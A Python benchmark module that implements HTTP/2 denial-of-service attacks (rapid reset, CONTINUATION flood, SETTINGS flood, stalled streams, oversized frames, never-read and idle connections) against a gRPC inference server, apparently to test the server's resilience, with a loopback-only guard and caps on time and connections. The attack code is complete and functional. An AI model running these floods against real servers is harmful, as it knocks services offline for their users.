"""The hostile scenarios' attackers, each in a process of its own.

``python -m bench.attacks ATTACK HOST PORT UNTIL`` runs one attack against a server on loopback
until ``UNTIL`` (on ``time.perf_counter()``'s clock, CLOCK_MONOTONIC on Linux, the same in every
process) and prints what the attacker saw as one JSON object (:class:`Outcomes`). Every attack
stops by itself: at ``UNTIL``, or after :data:`MAX_CONNECTIONS` connections. An attacker whose
connection the server closes opens another after :data:`RECONNECT_PAUSE` and goes on, as a real
one would. Only 127.0.0.1 is accepted. The process runs at nice 19 (see :func:`main`).

The attacks are written in raw HTTP/2 (frames packed by hand, HPACK by ``hpack``) or, where the
attack needs well-formed calls of its own, with ``h2`` or grpc.aio:

=================  ========================================================================
``stall-one``       one connection opens :data:`STALL_STREAMS` ModelInfer calls without a
                    deadline, each sending only a 5-byte prefix that announces
                    :data:`STALL_ANNOUNCED` bytes, never the body; a call that ends is replaced.
``stall-many``      the same from :data:`STALL_CONNECTIONS` connections.
``continuation``    HEADERS, then CONTINUATION frames carrying one Huffman literal of
                    :data:`CONTINUATION_BYTES` encoded bytes, never END_HEADERS.
``bytes``           ``echo`` of a BYTES tensor of :data:`BYTES_ELEMENTS` one-byte elements (the
                    most the server accepts), one call at a time on each of
                    :data:`BYTES_CONCURRENCY` connections.
``frame-size``      :data:`FRAME_SIZE_CONNECTIONS` connections each send a DATA frame header
                    announcing 16 MiB, then the body, as fast as the server reads.
``trailers``        calls whose request ends with trailers (HEADERS + END_STREAM after DATA),
                    each beside a plain call on the same connection.
``never-read``      connections that never read, sending tiny requests with larger answers:
                    ServerMetadata, and an unknown :data:`LONG_PATH` (echoed in
                    ``grpc-message``), HPACK-indexed so each costs a few bytes to send.
``rapid-reset``     HEADERS then RST_STREAM in a loop (CVE-2023-44487), two connections.
``settings-flood``  empty SETTINGS frames in a loop, two connections.
``idle``            :data:`IDLE_CONNECTIONS` connections, half of which send half a preface
                    and half a whole preface and SETTINGS, then nothing.
=================  ========================================================================
"""

from __future__ import annotations

import argparse
import asyncio
import contextlib
import dataclasses
import json
import logging
import math
import os
import resource
import signal
import socket
import struct
import sys
import time
from collections import Counter
from collections.abc import Awaitable, Callable, Iterator, Sequence
from dataclasses import dataclass, field

import grpc
import h2.config
import h2.connection
import h2.errors
import h2.events
import h2.exceptions
import hpack

from bench import client
from trio_infer.protobuf._proto import grpc_predict_v2_pb2 as pb

MIB = 1024 * 1024
#: The ``--memory-budget`` of the hostile scenarios' server: small enough that memory beyond
#: what requests reserve shows against it.
BUDGET = 256 * MIB
#: stall: bytes each stalled call announces. The server reserves three times a request's
#: announced size, so five such calls hold 240 MiB of the 256 MiB budget and the sixth waits
#: for room; every later request, a bystander's too, waits behind it. (Against the default
#: budget, a quarter of RAM, the same attack announces about 64 MiB: the limit on a message.)
STALL_ANNOUNCED = 16 * MIB
#: stall: calls each connection keeps open (the server's default stream limit).
STALL_STREAMS = 100
STALL_CONNECTIONS = 8
#: continuation: encoded bytes of the header block, sent in frames of the default
#: SETTINGS_MAX_FRAME_SIZE (16 KiB, which any server accepts).
CONTINUATION_BYTES = 8 * MIB
CONTINUATION_FRAME = 16 * 1024
#: bytes: elements of the BYTES tensor (``MAX_BYTES_ELEMENTS`` in trio_infer/protobuf/codec.py).
BYTES_ELEMENTS = 1 << 20
BYTES_CONCURRENCY = 2
#: bytes: each call's deadline, seconds (one call took 1.4 s alone on the 2-core machine).
BYTES_DEADLINE = 10.0
FRAME_SIZE_CONNECTIONS = 40
#: frame-size: the length the DATA frame header announces (the largest a frame header holds).
FRAME_SIZE_ANNOUNCED = 2**24 - 1
NEVER_READ_CONNECTIONS = 4
#: never-read: an unknown method's path, long, yet short enough that its HPACK table entry fits
#: beside the other request headers' in the default 4096-byte table: each later request names
#: it by a 1-2 byte index.
LONG_PATH = "/inference.GRPCInferenceService/" + "X" * 3500
TRAILERS_CONNECTIONS = 2
#: trailers: pairs of calls (one ending with trailers, one plain) in flight per connection.
TRAILERS_PAIRS = 4
FLOOD_CONNECTIONS = 2
#: rapid-reset, settings-flood: frames per write.
FLOOD_BATCH = 1000
#: idle: connections held open at once.
IDLE_CONNECTIONS = 2000
#: Connections one attack may open in all, whatever its duration.
MAX_CONNECTIONS = 50_000
#: Seconds an attacker waits before it reconnects after the server closed its connection.
RECONNECT_PAUSE = 0.05
#: Seconds an attacker waits for the server to react to what it sent before it gives up on the
#: connection and opens another.
PATIENCE = 5.0

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, RST_STREAM, SETTINGS, GOAWAY, WINDOW_UPDATE, CONTINUATION = 0, 1, 3, 4, 7, 8, 9
END_STREAM, ACK, END_HEADERS = 0x1, 0x1, 0x4
#: SETTINGS_INITIAL_WINDOW_SIZE's identifier and the largest window.
INITIAL_WINDOW_SIZE = 0x4
MAX_WINDOW = 2**31 - 1

REQUEST_HEADERS = [
    (":method", "POST"),
    (":scheme", "http"),
    (":path", "/inference.GRPCInferenceService/ModelInfer"),
    (":authority", "127.0.0.1"),
    ("te", "trailers"),
    ("content-type", "application/grpc"),
]
STATUS_NAMES = {code.value[0]: code.name for code in grpc.StatusCode}

ATTACKS = (
    "stall-one",
    "stall-many",
    "continuation",
    "bytes",
    "frame-size",
    "trailers",
    "never-read",
    "rapid-reset",
    "settings-flood",
    "idle",
)


@dataclass
class Outcomes:
    """What an attacker saw, counted: how each connection ended (``GOAWAY <code>``, ``closed``
    without a GOAWAY, ``held`` to the end, ``refused`` at connect), how each of its calls ended
    (``<kind>: <status>``, or ``reset <code>``), and what it sent."""

    attack: str
    connections: int = 0
    ended: Counter[str] = field(default_factory=Counter)
    calls: Counter[str] = field(default_factory=Counter)
    sent_bytes: int = 0
    """Bytes written to the socket (the server may have read fewer)."""
    frames: int = 0
    blocked: int = 0
    """Writes that waited over a second: the server had stopped reading the connection."""
    seconds: float = 0.0

    def as_json(self) -> dict[str, object]:
        """The counts, most common first."""
        return {
            **dataclasses.asdict(self),
            "ended": dict(self.ended.most_common()),
            "calls": dict(self.calls.most_common()),
        }


def error_name(code: int) -> str:
    """An HTTP/2 error code's name (its number when unknown)."""
    try:
        return h2.errors.ErrorCodes(code).name
    except ValueError:
        return str(code)


#: A frame's 9-byte header: its 24-bit length as 16 + 8 bits, type, flags, stream id.
_FRAME_HEADER = struct.Struct(">HBBBL")


def frame(
    kind: int, flags: int, stream: int, payload: bytes, *, length: int | None = None
) -> bytes:
    """An HTTP/2 frame; ``length`` announces another length than the payload's."""
    size = len(payload) if length is None else length
    return _FRAME_HEADER.pack(size >> 8, size & 0xFF, kind, flags, stream) + payload


def client_preface(*settings: tuple[int, int]) -> bytes:
    """The client's connection preface and its SETTINGS frame."""
    payload = b"".join(key.to_bytes(2, "big") + value.to_bytes(4, "big") for key, value in settings)
    return PREFACE + frame(SETTINGS, 0, 0, payload)


def grpc_message(payload: bytes) -> bytes:
    """A gRPC length-prefixed message, uncompressed."""
    return b"\x00" + len(payload).to_bytes(4, "big") + payload


def huffman_literal(name: bytes, count: int) -> bytes:
    """A literal header field (not indexed) whose value is ``count`` (a multiple of 8)
    Huffman-coded "a"s, packed by hand: hpack's encoder takes minutes over a megabyte."""
    eight = int("00011" * 8, 2).to_bytes(5, "big")  # "a" is the 5-bit code 00011
    value = eight * (count // 8)
    length = hpack.hpack.encode_integer(len(value), 7)
    length[0] |= 0x80  # the H bit: Huffman-coded
    return bytes([0x00, len(name)]) + name + bytes(length) + value


class FrameScanner:
    """Reads the server's frames from raw bytes: its GOAWAY code, its RST_STREAM codes and its
    SETTINGS acknowledgements. The buffer holds at most one unfinished frame."""

    def __init__(self) -> None:
        self.buffer = bytearray()
        self.goaway: int | None = None
        self.resets: Counter[str] = Counter()
        self.settings_acks = 0
        self.preface_skipped = False

    def feed(self, data: bytes) -> None:
        """Take what the server sent, frame by frame."""
        self.buffer += data
        while len(self.buffer) >= 9:
            length = int.from_bytes(self.buffer[:3], "big")
            if len(self.buffer) < 9 + length:
                return
            kind, flags = self.buffer[3], self.buffer[4]
            payload = bytes(self.buffer[9 : 9 + length])
            del self.buffer[: 9 + length]
            if kind == GOAWAY and length >= 8:
                self.goaway = int.from_bytes(payload[4:8], "big")
            elif kind == RST_STREAM and length == 4:
                self.resets[f"reset {error_name(int.from_bytes(payload, 'big'))}"] += 1
            elif kind == SETTINGS and flags & ACK:
                self.settings_acks += 1


def _remaining(until: float) -> float:
    return max(0.0, until - time.perf_counter())


async def _drain(writer: asyncio.StreamWriter, seconds: float) -> bool:
    """Wait until the write buffer is low again; False if that took over ``seconds``."""
    try:
        async with asyncio.timeout(seconds):
            await writer.drain()
    except TimeoutError:
        return False
    return True


async def _scan(reader: asyncio.StreamReader, scanner: FrameScanner) -> str:
    """Feed the scanner until the server sends GOAWAY (``goaway``) or closes the connection:
    ``closed`` (it sent FIN) or ``reset`` (RST, as when it closes with unread bytes of ours
    still in its buffer)."""
    try:
        while data := await reader.read(65536):
            scanner.feed(data)
            if scanner.goaway is not None:
                return "goaway"
    except ConnectionError:
        return "reset"
    return "closed"


async def _connect(
    host: str, port: int, outcomes: Outcomes, receive_buffer: int | None = None
) -> tuple[asyncio.StreamReader, asyncio.StreamWriter] | None:
    """A new connection; ``receive_buffer`` sets SO_RCVBUF (before connecting, so the TCP
    window is sized by it)."""
    outcomes.connections += 1
    sock = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    if receive_buffer is not None:
        sock.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, receive_buffer)
    sock.setblocking(False)
    try:
        async with asyncio.timeout(5.0):
            await asyncio.get_running_loop().sock_connect(sock, (host, port))
            return await asyncio.open_connection(sock=sock)
    except (OSError, TimeoutError) as error:
        sock.close()
        outcomes.ended[f"refused ({type(error).__name__})"] += 1
        await asyncio.sleep(RECONNECT_PAUSE)
        return None


async def _raw_connection(
    host: str,
    port: int,
    until: float,
    outcomes: Outcomes,
    chunks: Callable[[], Iterator[bytes]],
    *,
    patience: float = PATIENCE,
    read: bool = True,
) -> None:
    """One connection: write ``chunks()`` as fast as the server reads (while it neither closes
    nor answers with GOAWAY), then wait up to ``patience`` s for it to react; count how the
    connection ended. With ``read`` false, nothing the server sends is read, and the
    connection's receive buffer is small, so that what the server cannot send stays with it."""
    connected = await _connect(host, port, outcomes, None if read else 4096)
    if connected is None:
        return
    reader, writer = connected
    scanner = FrameScanner()
    reading = asyncio.create_task(_scan(reader, scanner) if read else asyncio.Event().wait())
    broken = False
    try:
        for chunk in chunks():
            if reading.done() or time.perf_counter() >= until:
                break
            writer.write(chunk)
            outcomes.sent_bytes += len(chunk)
            outcomes.frames += 1
            if not await _drain(writer, min(1.0, _remaining(until))):
                if time.perf_counter() >= until:
                    break
                outcomes.blocked += 1
                await _drain(writer, _remaining(until))
        await asyncio.wait([reading], timeout=min(patience, _remaining(until)))
    except ConnectionError:
        broken = True
        # The server closed while we wrote: what it sent before may still be read.
        await asyncio.wait([reading], timeout=1.0)
    finally:
        if not reading.done():
            reading.cancel()
        writer.close()
        with contextlib.suppress(ConnectionError, asyncio.CancelledError):
            await reading
    outcomes.calls.update(scanner.resets)
    if scanner.goaway is not None:
        outcomes.ended[f"GOAWAY {error_name(scanner.goaway)}"] += 1
    elif reading.done() and not reading.cancelled():
        outcomes.ended[str(reading.result())] += 1
    elif broken:  # closed by the server, seen by a writer that does not read
        outcomes.ended["reset"] += 1
    else:
        outcomes.ended["held" if time.perf_counter() >= until else "no answer"] += 1
    await asyncio.sleep(RECONNECT_PAUSE)


async def _repeat(
    until: float, outcomes: Outcomes, connection: Callable[[], Awaitable[None]], copies: int = 1
) -> None:
    """``copies`` attackers, each opening a connection after another until ``until``."""

    async def one() -> None:
        while time.perf_counter() < until and outcomes.connections < MAX_CONNECTIONS:
            await connection()

    async with asyncio.TaskGroup() as group:
        for _ in range(copies):
            group.create_task(one())


# ------------------------------------------------------------------------------------------
# Attacks written as raw frames


def _request_block() -> bytes:
    """The request's header block, as the first block of a fresh connection's HPACK state."""
    return bytes(hpack.Encoder().encode(REQUEST_HEADERS))


async def continuation(host: str, port: int, until: float, outcomes: Outcomes) -> None:
    block = _request_block() + huffman_literal(b"x-flood", CONTINUATION_BYTES // 5 * 8)
    block = block[:CONTINUATION_BYTES]
    parts = [block[i : i + CONTINUATION_FRAME] for i in range(0, len(block), CONTINUATION_FRAME)]
    frames = [frame(HEADERS, 0, 1, parts[0])] + [frame(CONTINUATION, 0, 1, p) for p in parts[1:]]
    # 256 KiB per write: the server's answer is read between writes.
    writes = [b"".join(frames[i : i + 16]) for i in range(0, len(frames), 16)]

    def chunks() -> Iterator[bytes]:
        yield client_preface()
        yield from writes

    await _repeat(until, outcomes, lambda: _raw_connection(host, port, until, outcomes, chunks))


async def frame_size(host: str, port: int, until: float, outcomes: Outcomes) -> None:
    body = bytes(64 * 1024)
    announced = frame(DATA, 0, 1, b"", length=FRAME_SIZE_ANNOUNCED)

    def chunks() -> Iterator[bytes]:
        yield client_preface() + frame(HEADERS, END_HEADERS, 1, _request_block())
        while True:  # frame after frame of 16 MiB, for as long as the server takes them
            yield announced
            for _ in range(FRAME_SIZE_ANNOUNCED // len(body)):
                yield body
            yield body[: FRAME_SIZE_ANNOUNCED % len(body)]

    await _repeat(
        until,
        outcomes,
        lambda: _raw_connection(host, port, until, outcomes, chunks),
        copies=FRAME_SIZE_CONNECTIONS,
    )


async def rapid_reset(host: str, port: int, until: float, outcomes: Outcomes) -> None:
    encoder = hpack.Encoder()
    first = bytes(encoder.encode(REQUEST_HEADERS))
    again = bytes(encoder.encode(REQUEST_HEADERS))  # every field now indexed
    cancel = h2.errors.ErrorCodes.CANCEL.to_bytes(4, "big")

    def chunks() -> Iterator[bytes]:
        yield client_preface()
        stream = 1
        block = first
        while stream < 2**31 - 2 * FLOOD_BATCH:
            batch = []
            for _ in range(FLOOD_BATCH):
                batch.append(frame(HEADERS, END_HEADERS, stream, block))
                batch.append(frame(RST_STREAM, 0, stream, cancel))
                block, stream = again, stream + 2
            yield b"".join(batch)

    await _repeat(
        until,
        outcomes,
        lambda: _raw_connection(host, port, until, outcomes, chunks),
        copies=FLOOD_CONNECTIONS,
    )


async def settings_flood(host: str, port: int, until: float, outcomes: Outcomes) -> None:
    batch = frame(SETTINGS, 0, 0, b"") * FLOOD_BATCH

    def chunks() -> Iterator[bytes]:
        yield client_preface()
        while True:
            yield batch

    await _repeat(
        until,
        outcomes,
        lambda: _raw_connection(host, port, until, outcomes, chunks),
        copies=FLOOD_CONNECTIONS,
    )


async def never_read(host: str, port: int, until: float, outcomes: Outcomes) -> None:
    """Requests written, answers never read: the server's unsent bytes grow until it stops
    reading the connection (or closes it). The client's windows are opened wide, so flow
    control does not stop the answers' DATA either."""
    metadata = [*REQUEST_HEADERS[:2], (":path", "/inference.GRPCInferenceService/ServerMetadata")]
    unknown = [*REQUEST_HEADERS[:2], (":path", LONG_PATH)]
    rest = REQUEST_HEADERS[3:]

    encoder = hpack.Encoder()
    first = [bytes(encoder.encode(metadata + rest)), bytes(encoder.encode(unknown + rest))]
    again = [bytes(encoder.encode(metadata + rest)), bytes(encoder.encode(unknown + rest))]
    body = grpc_message(b"")

    def chunks() -> Iterator[bytes]:
        yield client_preface((INITIAL_WINDOW_SIZE, MAX_WINDOW)) + frame(
            WINDOW_UPDATE, 0, 0, (MAX_WINDOW - 65535).to_bytes(4, "big")
        )
        stream = 1
        blocks = first
        while stream < 2**31 - 4 * FLOOD_BATCH:
            batch = []
            for _ in range(FLOOD_BATCH // 2):
                batch.append(frame(HEADERS, END_HEADERS, stream, blocks[0]))
                batch.append(frame(DATA, END_STREAM, stream, body))
                flags = END_HEADERS | END_STREAM
                batch.append(frame(HEADERS, flags, stream + 2, blocks[1]))
                blocks, stream = again, stream + 4
            yield b"".join(batch)

    await _repeat(
        until,
        outcomes,
        lambda: _raw_connection(host, port, until, outcomes, chunks, read=False),
        copies=NEVER_READ_CONNECTIONS,
    )


async def idle(host: str, port: int, until: float, outcomes: Outcomes) -> None:
    """Connections that send half a preface, or a preface and SETTINGS, then nothing; each is
    opened again when the server closes it."""
    # Connected in steps, so the listener's backlog does not overflow (a dropped SYN is
    # retried only after a second).
    limit = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (limit[1], limit[1]))
    count = min(IDLE_CONNECTIONS, limit[1] - 100)

    def half() -> Iterator[bytes]:
        yield PREFACE[:16]

    def whole() -> Iterator[bytes]:
        yield client_preface()

    def holder(index: int) -> Callable[[], Awaitable[None]]:
        sent = half if index % 2 == 0 else whole
        return lambda: _raw_connection(host, port, until, outcomes, sent, patience=math.inf)

    async def one(index: int) -> None:
        await asyncio.sleep(index // 100 * 0.02)
        await _repeat(until, outcomes, holder(index))

    async with asyncio.TaskGroup() as group:
        for index in range(count):
            group.create_task(one(index))


# ------------------------------------------------------------------------------------------
# Attacks written with h2: they read the server's answers and keep their own calls going


class _H2Client:
    """An h2 client connection over asyncio streams that acknowledges every DATA byte it
    receives (flow control must not be what stops the server) and sorts out how calls end."""

    def __init__(self, reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        self.reader, self.writer = reader, writer
        self.h2 = h2.connection.H2Connection(
            h2.config.H2Configuration(client_side=True, header_encoding="utf-8")
        )
        self.h2.initiate_connection()
        self.status: dict[int, str] = {}
        self.goaway: int | None = None

    async def flush(self, outcomes: Outcomes) -> None:
        data = self.h2.data_to_send()
        if data:
            self.writer.write(data)
            outcomes.sent_bytes += len(data)
            await _drain(self.writer, PATIENCE)

    async def events(self, until: float) -> list[h2.events.Event] | None:
        """The events of the server's next bytes; None when it closed or ``until`` came."""
        try:
            async with asyncio.timeout(_remaining(until)):
                data = await self.reader.read(65536)
        except (TimeoutError, ConnectionError):
            return None
        if not data:
            return None
        try:
            events = self.h2.receive_data(data)
        except h2.exceptions.ProtocolError:
            return None
        for event in events:
            if isinstance(event, h2.events.ResponseReceived | h2.events.TrailersReceived):
                for name, value in event.headers:
                    if name == "grpc-status":
                        self.status[event.stream_id] = STATUS_NAMES.get(int(value), value)
            elif isinstance(event, h2.events.DataReceived):
                self.h2.acknowledge_received_data(event.flow_controlled_length, event.stream_id)
            elif isinstance(event, h2.events.StreamReset):
                # After an answer, RST_STREAM(NO_ERROR) only says "stop sending".
                self.status.setdefault(event.stream_id, f"reset {error_name(event.error_code)}")
            elif isinstance(event, h2.events.ConnectionTerminated):
                self.goaway = event.error_code
        return events


def _ended(events: Sequence[h2.events.Event]) -> list[int]:
    return [
        e.stream_id for e in events if isinstance(e, h2.events.StreamEnded | h2.events.StreamReset)
    ]


async def _h2_connection(
    host: str,
    port: int,
    until: float,
    outcomes: Outcomes,
    start: Callable[[_H2Client], list[int]],
    kind_of: Callable[[int], str],
) -> None:
    """One connection that keeps calls going: ``start`` opens calls (returns their stream ids)
    and is called again each time calls end, after a short pause."""
    connected = await _connect(host, port, outcomes)
    if connected is None:
        return
    conn = _H2Client(*connected)
    open_streams: set[int] = set()
    try:
        open_streams.update(start(conn))
        await conn.flush(outcomes)
        while time.perf_counter() < until:
            events = await conn.events(until)
            if events is None or conn.goaway is not None:
                break
            ended = [s for s in _ended(events) if s in open_streams]
            for stream in ended:
                open_streams.discard(stream)
                outcomes.calls[f"{kind_of(stream)}: {conn.status.get(stream, 'no status')}"] += 1
            await conn.flush(outcomes)
            if ended:
                await asyncio.sleep(RECONNECT_PAUSE)
                open_streams.update(start(conn))
                await conn.flush(outcomes)
    except (ConnectionError, h2.exceptions.ProtocolError):
        pass
    finally:
        conn.writer.close()
    for stream in open_streams:
        outcomes.calls[f"{kind_of(stream)}: open at the end"] += 1
    if conn.goaway is not None:
        outcomes.ended[f"GOAWAY {error_name(conn.goaway)}"] += 1
    else:
        outcomes.ended["held" if time.perf_counter() >= until else "closed"] += 1
    await asyncio.sleep(RECONNECT_PAUSE)


async def stall(host: str, port: int, until: float, outcomes: Outcomes, copies: int) -> None:
    prefix = b"\x00" + STALL_ANNOUNCED.to_bytes(4, "big")

    def start(conn: _H2Client) -> list[int]:
        opened = []
        while conn.h2.open_outbound_streams < STALL_STREAMS:
            stream = conn.h2.get_next_available_stream_id()
            try:
                conn.h2.send_headers(stream, REQUEST_HEADERS)
            except h2.exceptions.TooManyStreamsError:
                break
            conn.h2.send_data(stream, prefix)
            opened.append(stream)
        return opened

    await _repeat(
        until,
        outcomes,
        lambda: _h2_connection(host, port, until, outcomes, start, lambda stream: "stalled"),
        copies=copies,
    )


def _echo_body() -> bytes:
    request = pb.ModelInferRequest(model_name="echo")
    tensor = request.inputs.add(name="x", datatype="INT32", shape=[4])
    tensor.contents.int_contents.extend(range(4))
    return grpc_message(request.SerializeToString())


async def trailers(host: str, port: int, until: float, outcomes: Outcomes) -> None:
    body = _echo_body()
    with_trailers: set[int] = set()

    def start(conn: _H2Client) -> list[int]:
        opened = []
        while conn.h2.open_outbound_streams < 2 * TRAILERS_PAIRS:
            first = conn.h2.get_next_available_stream_id()
            conn.h2.send_headers(first, REQUEST_HEADERS)
            conn.h2.send_data(first, body)
            second = conn.h2.get_next_available_stream_id()
            conn.h2.send_headers(second, REQUEST_HEADERS)
            conn.h2.send_data(second, body, end_stream=True)
            conn.h2.send_headers(first, [("x-trailer", "1")], end_stream=True)
            with_trailers.add(first)
            opened += [first, second]
        return opened

    def kind_of(stream: int) -> str:
        return "trailers" if stream in with_trailers else "plain"

    await _repeat(
        until,
        outcomes,
        lambda: _h2_connection(host, port, until, outcomes, start, kind_of),
        copies=TRAILERS_CONNECTIONS,
    )


async def large_bytes(host: str, port: int, until: float, outcomes: Outcomes) -> None:
    """A legal request, sent by grpc.aio: echo of the largest BYTES tensor the server takes,
    one call at a time on each of :data:`BYTES_CONCURRENCY` connections (a connection may hold
    only a share of the memory budget: more calls on one would be refused)."""
    request = pb.ModelInferRequest(model_name="echo")
    request.inputs.add(name="x", datatype="BYTES", shape=[BYTES_ELEMENTS])
    # Raw BYTES: each element is its length as a little-endian uint32, then its bytes.
    request.raw_input_contents.append(b"\x01\x00\x00\x00x" * BYTES_ELEMENTS)

    async def one_connection(seed: int) -> client.Samples:
        outcomes.connections += 1
        async with client.open_channel(f"{host}:{port}") as channel:
            return await client.closed_loop(
                client.infer_serialized_once(channel, request),
                concurrency=1,
                duration=_remaining(until),
                call_timeout=BYTES_DEADLINE,
                seed=seed,
            )

    everyone = await asyncio.gather(*(one_connection(i) for i in range(BYTES_CONCURRENCY)))
    for samples in everyone:
        outcomes.calls.update(f"echo BYTES: {status}" for status in samples.statuses)
        outcomes.sent_bytes += len(samples.statuses) * request.ByteSize()
        outcomes.ended["held"] += 1


def run(attack: str, host: str, port: int, until: float) -> Outcomes:
    """Run ``attack`` until ``until`` (``time.perf_counter()``); return what it saw."""
    if host != "127.0.0.1":
        raise ValueError(f"attacks run on loopback only (127.0.0.1), not {host!r}")
    outcomes = Outcomes(attack)
    began = time.perf_counter()
    runners: dict[str, Callable[[], Awaitable[None]]] = {
        "stall-one": lambda: stall(host, port, until, outcomes, 1),
        "stall-many": lambda: stall(host, port, until, outcomes, STALL_CONNECTIONS),
        "continuation": lambda: continuation(host, port, until, outcomes),
        "bytes": lambda: large_bytes(host, port, until, outcomes),
        "frame-size": lambda: frame_size(host, port, until, outcomes),
        "trailers": lambda: trailers(host, port, until, outcomes),
        "never-read": lambda: never_read(host, port, until, outcomes),
        "rapid-reset": lambda: rapid_reset(host, port, until, outcomes),
        "settings-flood": lambda: settings_flood(host, port, until, outcomes),
        "idle": lambda: idle(host, port, until, outcomes),
    }

    async def main() -> None:
        # A bound of its own, in case a write or read outlives every other bound.
        with contextlib.suppress(TimeoutError):
            async with asyncio.timeout(_remaining(until) + 5.0):
                await runners[attack]()

    asyncio.run(main())
    outcomes.seconds = round(time.perf_counter() - began, 2)
    return outcomes


def main(argv: Sequence[str] | None = None) -> int:
    """Run one attack and print what it saw as JSON on stdout."""
    parser = argparse.ArgumentParser(prog="python -m bench.attacks")
    parser.add_argument("attack", choices=ATTACKS)
    parser.add_argument("host")
    parser.add_argument("port", type=int)
    parser.add_argument("until", type=float, help="when to stop, time.perf_counter() clock")
    args = parser.parse_args(argv)
    # Ctrl+C reaches the whole process group; the benchmark stops this process itself.
    signal.signal(signal.SIGINT, signal.SIG_IGN)
    # An attacker on another machine would take none of the server's CPU. Here the cores are
    # shared: at nice 19 the attacker gets what the server and the bystander leave idle, so the
    # bystander's numbers show what the attack makes the server do, less what its own CPU
    # takes from theirs.
    os.nice(19)
    # Writes to a connection the server has closed are expected: asyncio need not warn.
    logging.getLogger("asyncio").setLevel(logging.CRITICAL)
    outcomes = run(args.attack, args.host, args.port, args.until)
    json.dump(outcomes.as_json(), sys.stdout)
    return 0


if __name__ == "__main__":
    sys.exit(main())
